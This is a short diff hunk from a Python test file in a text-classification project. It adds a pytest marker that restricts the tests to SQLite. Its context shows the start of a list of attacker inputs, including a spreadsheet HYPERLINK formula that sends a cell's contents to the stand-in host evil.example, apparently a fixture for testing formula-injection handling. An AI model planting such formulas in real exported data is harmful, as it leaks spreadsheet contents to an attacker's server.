@@ -27,6 +27,9 @@ from textloop.store import Store
 from textloop.store.queries import get_classifier
 from textloop.store.tables import ReviewTask
 
+# what these check does not depend on the database: SQLite alone keeps CI short
+pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+
 # What an attacker sends to be classified, and what a spreadsheet would make of it.
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
